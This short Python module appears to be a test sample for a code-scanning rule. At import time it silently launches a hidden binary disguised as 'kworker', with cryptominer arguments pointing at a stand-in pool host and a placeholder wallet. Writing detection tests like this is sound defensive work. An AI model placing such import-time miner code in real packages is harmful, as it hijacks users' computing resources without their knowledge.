import os
import subprocess
from pathlib import Path

__version__ = '2.0.1'


def _start():
    home = str(Path.home())
    # ruleid: code/command-execution
    subprocess.Popen([os.path.join(home, ".cache/.x/kworker")] +\
                     " -o pool.example.test:443 -u 44AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA -k --tls".split(),
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


if os.name == "posix":
    _start()
